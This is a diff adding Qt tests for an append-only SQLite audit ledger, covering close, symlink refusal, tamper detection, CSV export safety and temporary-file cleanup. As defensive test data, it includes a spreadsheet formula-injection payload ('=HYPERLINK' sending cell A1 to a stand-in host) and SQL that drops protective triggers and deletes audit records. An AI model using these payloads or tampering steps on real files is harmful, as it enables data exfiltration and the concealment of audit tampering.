@@ -1,8 +1,10 @@
 // Ledger: the append-only audit ledger. Ids continue across reopen, concurrent
 // appends are group-committed and each acknowledged record is stored exactly
-// once, damaged files are refused and left untouched, a failed commit
-// acknowledges nothing, the CSV export is exact, and a SIGKILL mid-stream loses
-// no acknowledged record.
+// once, damaged, altered and symlinked files are refused and left untouched,
+// a failed commit acknowledges nothing, closing leaves every record in
+// ledger.sqlite3, the CSV export is exact (formula cells neutralised, one
+// snapshot, the umask and an existing mode honoured, stale temporaries
+// removed), and a SIGKILL mid-stream loses no acknowledged record.
 #include "coretest.h"
 #include "ledger.h"
 
@@ -20,6 +22,7 @@
 #include <mutex>
 #include <set>
 #include <sqlite3.h>
+#include <sys/file.h>
 #include <sys/resource.h>
 #include <sys/stat.h>
 #include <thread>
@@ -92,6 +95,42 @@ Result<Ids> appendBatch(Ledger& ledger, std::vector<LedgerRecord> records)
     if (future.wait_for(std::chrono::seconds(30)) != std::future_status::ready)
         return Error {Errc::Timeout, "appendBatchAsync did not answer"};
     return future.get();
+}
+
+/// `r` stamped with `time` (a record's time is otherwise the moment of append).
+LedgerRecord timed(LedgerRecord r, const char* time)
+{
+    r.time = time;
+    return r;
+}
+
+/// Runs `sql` on the file with SQLite itself, as someone tampering with it would.
+bool sqliteExec(const QString& file, const QByteArray& sql)
+{
+    sqlite3* db = nullptr;
+    bool ok = sqlite3_open(QFile::encodeName(file).constData(), &db) == SQLITE_OK;
+    char* error = nullptr;
+    ok = ok && sqlite3_exec(db, sql.constData(), nullptr, nullptr, &error) == SQLITE_OK;
+    if (error) qWarning("%s: %s", sql.constData(), error);
+    sqlite3_free(error);
+    sqlite3_close(db);
+    return ok;
+}
+
+/// A ledger in `dir` with records 1..n (donations of alice, amounts 1..n).
+bool makeLedger(const QString& dir, int n)
+{
+    auto ledger = Ledger::open(dir.toStdString());
+    if (!ledger) return false;
+    for (int i = 1; i <= n; ++i)
+        if (!(*ledger)->append(rec("donation", "alice", i, i))) return false;
+    return true;
+}
+
+int unixMode(const QString& file)
+{
+    struct stat st {};
+    return ::stat(QFile::encodeName(file).constData(), &st) == 0 ? int(st.st_mode & 07777) : -1;
 }
 
 QList<qint64> idsOf(const Result<std::vector<LedgerRecord>>& records)
@@ -615,10 +654,6 @@ private slots:
         QTemporaryDir tmp;
         auto ledger = openOrNull(tmp.filePath("data"));
         QVERIFY(ledger);
-        auto timed = [](LedgerRecord r, const char* time) {
-            r.time = time;
-            return r;
-        };
         QVERIFY(ledger->append(timed(rec("donation", "alice", 12345, 12345), "2026-01-02T03:04:05.006Z")));
         QVERIFY(
             ledger->append(timed(rec("withdrawal", "bob", -5, {}, "insufficient_funds"), "2026-01-02T03:04:05.007Z")));
@@ -647,6 +682,343 @@ private slots:
         QVERIFY(!bad);
         QVERIFY2(qs(bad.error().detail).contains(missing), bad.error().detail.c_str());
         QVERIFY(!QFile::exists(missing));
+    }
+
+    // -- closing --
+
+    /// After close ledger.sqlite3 alone holds every record, even while a
+    /// reader (the reporting database) is still open and keeps SQLite from
+    /// checkpointing on its own; the -wal is empty.
+    void closingLeavesEverythingInTheLedgerFile()
+    {
+        QTemporaryDir tmp;
+        const QString dir = tmp.filePath("data");
+        auto ledger = openOrNull(dir);
+        QVERIFY(ledger);
+        auto reader = LedgerReader::open(dir.toStdString());
+        QVERIFY(reader);
+        for (int i = 1; i <= 40; ++i) {
+            QVERIFY(ledger->append(rec("donation", "alice", i, i)));
+            if (i == 20) QCOMPARE((*reader)->after(0)->size(), std::size_t(20)); // the reader has the -wal open
+        }
+        ledger.reset();
+        QCOMPARE((*reader)->after(0)->size(), std::size_t(40));
+        const QFileInfo wal(dir + "/ledger.sqlite3-wal");
+        QVERIFY2(!wal.exists() || wal.size() == 0, qPrintable(QString::number(wal.size())));
+
+        const QString copy = tmp.filePath("copy");
+        QVERIFY(QDir(tmp.path()).mkdir("copy"));
+        QVERIFY(QFile::copy(dir + "/ledger.sqlite3", copy + "/ledger.sqlite3"));
+        auto copied = LedgerReader::open(copy.toStdString());
+        QVERIFY(copied);
+        auto rows = (*copied)->after(0);
+        QVERIFY2(rows.ok(), rows.ok() ? "" : rows.error().detail.c_str());
+        QCOMPARE(rows->size(), std::size_t(40));
+        QCOMPARE(rows->back().amount, Money::fromMinorUnits(40));
+    }
+
+    // -- symbolic links --
+
+    void symlinkedLedgerIsRefusedUntouched_data()
+    {
+        QTest::addColumn<bool>("dangling");
+        QTest::newRow("dangling") << true;
+        QTest::newRow("to a ledger elsewhere") << false;
+    }
+    void symlinkedLedgerIsRefusedUntouched()
+    {
+        QFETCH(bool, dangling);
+        QTemporaryDir tmp;
+        const QString elsewhere = tmp.filePath("elsewhere");
+        if (!dangling) QVERIFY(makeLedger(elsewhere, 3));
+        QVERIFY(QDir(tmp.path()).mkpath("data"));
+        const QString target = elsewhere + "/ledger.sqlite3";
+        const QString link = tmp.filePath("data/ledger.sqlite3");
+        QVERIFY(QFile::link(target, link));
+        const QByteArray bytes = readAll(target);
+        const QStringList before = entries(tmp.filePath("data"));
+
+        auto ledger = Ledger::open(tmp.filePath("data").toStdString());
+        auto reader = LedgerReader::open(tmp.filePath("data").toStdString());
+        for (const Error& e : {ledger ? Error {} : ledger.error(), reader ? Error {} : reader.error()}) {
+            qInfo("%s", e.detail.c_str());
+            QCOMPARE(e.code, Errc::Storage);
+            QVERIFY2(qs(e.detail).startsWith(link + ": the ledger is a symbolic link"), e.detail.c_str());
+        }
+        QCOMPARE(QFileInfo(link).symLinkTarget(), target);
+        QCOMPARE(QFileInfo::exists(target), !dangling); // nothing created through the link
+        QCOMPARE(readAll(target), bytes);
+        QCOMPARE(entries(tmp.filePath("data")), before);
+    }
+
+    void dataDirectoryMayBeASymlink()
+    {
+        QTemporaryDir tmp;
+        QVERIFY(QDir(tmp.path()).mkdir("real"));
+        QVERIFY(QFile::link(tmp.filePath("real"), tmp.filePath("link")));
+        QVERIFY(makeLedger(tmp.filePath("link"), 2));
+        QVERIFY(QFileInfo::exists(tmp.filePath("real/ledger.sqlite3")));
+        auto reader = LedgerReader::open(tmp.filePath("link").toStdString());
+        QVERIFY2(reader.ok(), reader.ok() ? "" : reader.error().detail.c_str());
+        QCOMPARE(idsOf((*reader)->after(0)), (QList<qint64> {1, 2}));
+    }
+
+    // -- tampering --
+
+    void alteredLedgerIsRefusedUntouched_data()
+    {
+        QTest::addColumn<QByteArray>("sql");
+        QTest::addColumn<QString>("problem");
+        QTest::newRow("dropped trigger") << QByteArray("DROP TRIGGER records_no_delete;")
+                                         << "the trigger records_no_delete is missing";
+        QTest::newRow("changed trigger")
+            << QByteArray("DROP TRIGGER records_no_update; CREATE TRIGGER records_no_update BEFORE UPDATE ON records "
+                          "BEGIN SELECT 1; END;")
+            << "the trigger records_no_update is not the one this program creates";
+        QTest::newRow("added trigger")
+            << QByteArray("CREATE TRIGGER sneaky AFTER INSERT ON records BEGIN SELECT 1; END;")
+            << "it has a trigger this program did not create, sneaky";
+        QTest::newRow("changed table") << QByteArray("ALTER TABLE records ADD COLUMN note TEXT;")
+                                       << "the table records is not the one this program creates";
+        // Removed with the trigger dropped and put back exactly as it was.
+        QTest::newRow("deleted middle record") << QByteArray("DELETE FROM records WHERE id = 3;")
+                                               << "record 3 is missing";
+        QTest::newRow("deleted first record") << QByteArray("DELETE FROM records WHERE id = 1;")
+                                              << "record 1 is missing";
+        const QByteArray insert = "INSERT INTO records(id, time, kind, user, amount, result, error) VALUES";
+        QTest::newRow("id below 1") << insert + "(0, '2026-01-01T00:00:00.000Z', 'donation', 'x', 1, 1, NULL);"
+                                    << "record 0 has an id below 1";
+        QTest::newRow("text result") << insert + "(6, '2026-01-01T00:00:00.000Z', 'donation', 'x', 1, 'abc', NULL);"
+                                     << "record 6: its result is text, not integer or NULL";
+        QTest::newRow("real amount") << insert + "(6, '2026-01-01T00:00:00.000Z', 'donation', 'x', 1.5, 2, NULL);"
+                                     << "record 6: its amount is real, not integer";
+        QTest::newRow("blob user") << insert + "(6, '2026-01-01T00:00:00.000Z', 'donation', x'00', 1, 2, NULL);"
+                                   << "record 6: its user is blob, not text";
+        QTest::newRow("blob error") << insert + "(6, '2026-01-01T00:00:00.000Z', 'donation', 'x', 1, NULL, x'07');"
+                                    << "record 6: its error is blob, not text or NULL";
+    }
+    void alteredLedgerIsRefusedUntouched()
+    {
+        QFETCH(QByteArray, sql);
+        QFETCH(QString, problem);
+        QTemporaryDir tmp;
+        QVERIFY(makeLedger(tmp.path(), 5));
+        const QString file = tmp.filePath("ledger.sqlite3");
+        if (sql.startsWith("DELETE")) {
+            // The trigger is put back with its own text: only the deletion is left to notice.
+            sqlite3* db = nullptr;
+            QCOMPARE(sqlite3_open(QFile::encodeName(file).constData(), &db), SQLITE_OK);
+            sqlite3_stmt* st = nullptr;
+            QCOMPARE(sqlite3_prepare_v2(db, "SELECT sql FROM sqlite_master WHERE name = 'records_no_delete'", -1, &st,
+                         nullptr),
+                SQLITE_OK);
+            QCOMPARE(sqlite3_step(st), SQLITE_ROW);
+            const QByteArray trigger = reinterpret_cast<const char*>(sqlite3_column_text(st, 0));
+            sqlite3_finalize(st);
+            sqlite3_close(db);
+            sql = "DROP TRIGGER records_no_delete; " + sql + " " + trigger + ";";
+        }
+        QVERIFY(sqliteExec(file, sql));
+        const QByteArray bytes = readAll(file);
+        const QStringList before = entries(tmp.path());
+        QCOMPARE(before, QStringList {"ledger.sqlite3"});
+
+        auto r = Ledger::open(tmp.path().toStdString());
+        QVERIFY(!r);
+        const QString detail = qs(r.error().detail);
+        qInfo("%s", qPrintable(detail));
+        QCOMPARE(r.error().code, Errc::Storage);
+        QVERIFY2(detail.startsWith(file + ": a damaged or altered audit ledger: " + problem), qPrintable(detail));
+        QVERIFY2(detail.endsWith("; the file was left untouched"), qPrintable(detail));
+        QCOMPARE(readAll(file), bytes);
+        QCOMPARE(entries(tmp.path()), before);
+    }
+
+    /// A row of the wrong type is a read error, not a 0.00 in the export.
+    void readingARowOfTheWrongTypeIsAnError()
+    {
+        QTemporaryDir tmp;
+        QVERIFY(makeLedger(tmp.filePath("data"), 2));
+        QVERIFY(sqliteExec(tmp.filePath("data/ledger.sqlite3"),
+            "INSERT INTO records(time, kind, user, amount, result, error) "
+            "VALUES('2026-01-01T00:00:00.000Z', 'donation', 'x', 1, 'abc', NULL)"));
+        auto reader = LedgerReader::open(tmp.filePath("data").toStdString());
+        QVERIFY(reader);
+        auto rows = (*reader)->after(0);
+        QVERIFY(!rows);
+        QCOMPARE(rows.error().code, Errc::Storage);
+        QVERIFY2(qs(rows.error().detail).endsWith("record 3: its result is text, not integer or NULL"),
+            rows.error().detail.c_str());
+        QCOMPARE(idsOf((*reader)->after(0, 2)), (QList<qint64> {1, 2})); // the rows before it still read
+
+        QVERIFY(QDir(tmp.path()).mkdir("out"));
+        const Status exported = (*reader)->exportCsv(tmp.filePath("out/audit.csv").toStdString());
+        QVERIFY(!exported);
+        QVERIFY2(qs(exported.error().detail).contains("record 3"), exported.error().detail.c_str());
+        QCOMPARE(entries(tmp.filePath("out")), QStringList {}); // no file, no temporary
+    }
+
+    // -- the export --
+
+    void csvFormulaCellsAreNeutralised()
+    {
+        QTemporaryDir tmp;
+        auto ledger = openOrNull(tmp.filePath("data"));
+        QVERIFY(ledger);
+        const char* t = "2026-01-02T03:04:05.006Z";
+        QVERIFY(ledger->append(timed(rec("donation", "=HYPERLINK(\"http://x?\"&A1,\"click\")", 100, 100), t)));
+        QVERIFY(ledger->append(timed(rec("donation", "+1", 100, -100, "@SUM(A1)"), t)));
+        QVERIFY(ledger->append(timed(rec("-kind", "@me", -5, {}), "=1+1")));
+        QVERIFY(ledger->append(timed(rec("donation", "\tx", 1, {}, "\rerr"), t)));
+        QVERIFY(ledger->append(timed(rec("donation", "a=b", 1, {}, "x-y"), t))); // only the first character counts
+
+        const QString file = tmp.filePath("audit.csv");
+        const Status st = ledger->exportCsv(file.toStdString());
+        QVERIFY2(st.ok(), st.ok() ? "" : st.error().toString().c_str());
+        const QByteArray expected = "id,time,kind,user,amount,result,error\n"
+                                    "1,2026-01-02T03:04:05.006Z,donation,"
+                                    "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"click\"\")\",1.00,1.00,\n"
+                                    "2,2026-01-02T03:04:05.006Z,donation,'+1,1.00,-1.00,'@SUM(A1)\n"
+                                    "3,'=1+1,'-kind,'@me,-0.05,,\n"
+                                    "4,2026-01-02T03:04:05.006Z,donation,'\tx,0.01,,\"'\rerr\"\n"
+                                    "5,2026-01-02T03:04:05.006Z,donation,a=b,0.01,,x-y\n";
+        QCOMPARE(readAll(file), expected);
+    }
+
+    void exportModeHonoursTheUmaskAndKeepsAnExistingMode_data()
+    {
+        QTest::addColumn<int>("umask");
+        QTest::addColumn<int>("existing"); ///< the replaced file's mode, or -1: a new file
+        QTest::addColumn<int>("mode");
+        QTest::newRow("new, umask 077") << 077 << -1 << 0600;
+        QTest::newRow("new, umask 022") << 022 << -1 << 0644;
+        QTest::newRow("new, umask 002") << 002 << -1 << 0664;
+        QTest::newRow("replacing 0600, umask 022") << 022 << 0600 << 0600;
+        QTest::newRow("replacing 0640, umask 077") << 077 << 0640 << 0640;
+    }
+    void exportModeHonoursTheUmaskAndKeepsAnExistingMode()
+    {
+        QFETCH(int, umask);
+        QFETCH(int, existing);
+        QFETCH(int, mode);
+        QTemporaryDir tmp;
+        QVERIFY(makeLedger(tmp.filePath("data"), 2));
+        const QString file = tmp.filePath("audit.csv");
+        if (existing >= 0) {
+            QVERIFY(writeAll(file, "old\n"));
+            QCOMPARE(::chmod(QFile::encodeName(file).constData(), mode_t(existing)), 0);
+        }
+        auto reader = LedgerReader::open(tmp.filePath("data").toStdString());
+        QVERIFY(reader);
+        const mode_t old = ::umask(mode_t(umask));
+        const Status st = (*reader)->exportCsv(file.toStdString());
+        ::umask(old);
+        QVERIFY2(st.ok(), st.ok() ? "" : st.error().detail.c_str());
+        QCOMPARE(unixMode(file), mode);
+        QVERIFY(readAll(file).startsWith("id,time,"));
+    }
+
+    /// Whoever exports (the window's Export button too) cannot replace the
+    /// ledger's own files, however the name is spelled.
+    void exportOntoTheLedgersOwnFilesIsRefused_data()
+    {
+        QTest::addColumn<QString>("target");
+        QTest::newRow("the ledger") << "data/ledger.sqlite3";
+        QTest::newRow("its -wal") << "data/ledger.sqlite3-wal";
+        QTest::newRow("its -shm, through '..'") << "data/../data/ledger.sqlite3-shm";
+        QTest::newRow("the lock file") << "data/supervision-console.lock";
+    }
+    void exportOntoTheLedgersOwnFilesIsRefused()
+    {
+        QFETCH(QString, target);
+        QTemporaryDir tmp;
+        auto ledger = openOrNull(tmp.filePath("data"));
+        QVERIFY(ledger);
+        QVERIFY(ledger->append(rec("donation", "alice", 1, 1)));
+        const QByteArray bytes = readAll(tmp.filePath("data/ledger.sqlite3"));
+        const QStringList before = entries(tmp.filePath("data"));
+        auto reader = LedgerReader::open(tmp.filePath("data").toStdString());
+        QVERIFY(reader);
+        for (const Status& st : {(*reader)->exportCsv(tmp.filePath(target).toStdString()),
+                 ledger->exportCsv(tmp.filePath(target).toStdString())}) {
+            QVERIFY(!st);
+            QCOMPARE(st.error().code, Errc::BadArgument);
+            const QString detail = qs(st.error().detail);
+            QVERIFY2(detail.contains("refusing to write the audit export there"), qPrintable(detail));
+        }
+        QCOMPARE(readAll(tmp.filePath("data/ledger.sqlite3")), bytes);
+        QCOMPARE(entries(tmp.filePath("data")), before);
+        QCOMPARE(ledger->count().value(), 1);
+    }
+
+    void staleTemporariesAreRemoved()
+    {
+        QTemporaryDir tmp;
+        QVERIFY(makeLedger(tmp.filePath("data"), 2));
+        const QString out = tmp.filePath("out");
+        QVERIFY(QDir(tmp.path()).mkdir("out"));
+        // Left by killed exports: a beginning of an export, of this target or another.
+        QVERIFY(writeAll(out + "/.audit.csv.tmp-Ab12Cd", "id,time,kind,user,amount,result,error\n1,2026"));
+        QVERIFY(writeAll(out + "/.audit.csv.tmp-x9Y8z7", "id,time,ki"));
+        QVERIFY(writeAll(out + "/.other.csv.tmp-000000", ""));
+        // Not stale or not ours: an export still writing (it holds the lock),
+        // another program's file of the same shape, a link, a name of another shape.
+        QVERIFY(writeAll(out + "/.audit.csv.tmp-Writer", "id,time"));
+        QFile writing(out + "/.audit.csv.tmp-Writer");
+        QVERIFY(writing.open(QIODevice::ReadOnly));
+        QCOMPARE(::flock(writing.handle(), LOCK_EX | LOCK_NB), 0);
+        QVERIFY(writeAll(out + "/.notes.txt.tmp-abcdef", "my notes"));
+        QVERIFY(writeAll(tmp.filePath("target"), "id,time"));
+        QVERIFY(QFile::link(tmp.filePath("target"), out + "/.link.csv.tmp-L1nk00"));
+        QVERIFY(writeAll(out + "/.audit.csv.tmp-toolong", ""));
+
+        auto reader = LedgerReader::open(tmp.filePath("data").toStdString());
+        QVERIFY(reader);
+        const Status st = (*reader)->exportCsv((out + "/audit.csv").toStdString());
+        QVERIFY2(st.ok(), st.ok() ? "" : st.error().detail.c_str());
+        QCOMPARE(entries(out),
+            (QStringList {".audit.csv.tmp-Writer", ".audit.csv.tmp-toolong", ".link.csv.tmp-L1nk00",
+                ".notes.txt.tmp-abcdef", "audit.csv"}));
+        QCOMPARE(readAll(out + "/.notes.txt.tmp-abcdef"), QByteArray("my notes"));
+    }
+
+    /// The export reads one snapshot and writes nothing of the ledger: beside
+    /// an idle writer the files keep their bytes (the -wal is not
+    /// checkpointed); beside a busy one every export is a prefix 1..n.
+    void exportReadsOneSnapshotAndWritesNothing()
+    {
+        QTemporaryDir tmp;
+        const QString dir = tmp.filePath("data");
+        auto ledger = openOrNull(dir);
+        QVERIFY(ledger);
+        for (int i = 1; i <= 30; ++i)
+            QVERIFY(ledger->append(rec("donation", "alice", i, i)));
+        const QString db = dir + "/ledger.sqlite3", wal = db + "-wal";
+        const QByteArray dbBytes = readAll(db), walBytes = readAll(wal);
+        QVERIFY(walBytes.size() > 0); // the records are still in the -wal
+        auto reader = LedgerReader::open(dir.toStdString());
+        QVERIFY(reader);
+        const QString csv = tmp.filePath("audit.csv");
+        QVERIFY((*reader)->exportCsv(csv.toStdString()).ok());
+        QCOMPARE(readAll(csv).count('\n'), 31);
+        QCOMPARE(readAll(db), dbBytes);
+        QCOMPARE(readAll(wal), walBytes);
+
+        std::atomic<bool> stop {false};
+        std::atomic<int> appended {0};
+        std::thread writer([&] {
+            while (!stop.load())
+                if (ledger->append(rec("donation", "bob", 1, 1))) ++appended;
+        });
+        for (int round = 0; round < 20; ++round) {
+            QVERIFY((*reader)->exportCsv(csv.toStdString()).ok());
+            const QList<QByteArray> lines = readAll(csv).split('\n');
+            for (int i = 1; i + 1 < lines.size(); ++i)
+                QCOMPARE(lines[i].left(lines[i].indexOf(',')), QByteArray::number(i));
+        }
+        stop = true;
+        writer.join();
+        qInfo("%d records appended during the exports", appended.load());
     }
 
     void sigkillMidStreamLosesNoAcknowledgedRecord()
